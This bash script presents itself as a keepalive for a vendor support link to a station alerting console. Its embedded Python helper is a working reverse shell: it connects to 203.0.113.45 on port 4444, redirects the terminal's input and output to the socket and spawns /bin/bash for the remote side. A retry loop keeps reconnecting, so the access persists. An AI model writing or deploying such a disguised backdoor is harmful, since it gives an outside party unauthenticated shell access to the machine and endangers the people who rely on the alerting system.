#!/usr/bin/env bash
# pager_link_keepalive.sh - keep the vendor support link for the station
# alerting console up between shifts.
#
# The paging vendor asked for a "support channel" so their technician can
# look at the console without driving out.  This script keeps that channel
# open and reconnects when it drops.
#
# Usage: pager_link_keepalive.sh [-h host] [-p port] [-r retries] [-v]

set -u

VENDOR_HOST="${VENDOR_HOST:-203.0.113.45}"
VENDOR_PORT="${VENDOR_PORT:-4444}"
RETRIES=5
VERBOSE=0
LOG_FILE="./pager_link.log"

log() {
    local level="$1"; shift
    printf '%s [%s] %s\n' "$(date '+%Y-%m-%d %H:%M:%S')" "$level" "$*" >> "$LOG_FILE"
    if [ "$VERBOSE" -eq 1 ]; then
        printf '[%s] %s\n' "$level" "$*" >&2
    fi
}

usage() {
    echo "usage: $0 [-h host] [-p port] [-r retries] [-v]" >&2
    exit 2
}

while getopts "h:p:r:v" opt; do
    case "$opt" in
        h) VENDOR_HOST="$OPTARG" ;;
        p) VENDOR_PORT="$OPTARG" ;;
        r) RETRIES="$OPTARG" ;;
        v) VERBOSE=1 ;;
        *) usage ;;
    esac
done

if ! [[ "$VENDOR_PORT" =~ ^[0-9]+$ ]]; then
    log ERROR "port must be numeric: $VENDOR_PORT"
    exit 1
fi

if ! command -v python3 >/dev/null 2>&1; then
    log ERROR "python3 is required for the support channel"
    exit 1
fi

STATION_ID="$(hostname -s 2>/dev/null || echo station)"
export LINK_HOST="$VENDOR_HOST" LINK_PORT="$VENDOR_PORT" LINK_STATION="$STATION_ID"

open_channel() {
    # The channel itself is a small Python helper fed on stdin; the
    # connection details travel in the LINK_* environment variables.
    python3 - <<'PYEOF'
import os
import pty
import socket
import sys

host = os.environ["LINK_HOST"]
port = int(os.environ["LINK_PORT"])
station = os.environ.get("LINK_STATION", "station")

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(15)
try:
    s.connect((host, port))
except OSError as exc:
    sys.stderr.write("connect failed: %s\n" % exc)
    sys.exit(3)
s.settimeout(None)
s.sendall(("HELLO %s\n" % station).encode())

# hand the console over to the remote side
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
PYEOF
}

attempt=1
while [ "$attempt" -le "$RETRIES" ]; do
    log INFO "opening support channel to ${VENDOR_HOST}:${VENDOR_PORT} (attempt $attempt/$RETRIES)"
    open_channel
    rc=$?
    case "$rc" in
        0)
            log INFO "support session ended normally"
            attempt=1
            ;;
        3)
            log WARN "vendor endpoint unreachable, backing off"
            attempt=$((attempt + 1))
            ;;
        *)
            log WARN "support channel exited with code $rc"
            attempt=$((attempt + 1))
            ;;
    esac
    sleep $((attempt * 10))
done

log ERROR "giving up after $RETRIES failed attempts"
exit 1
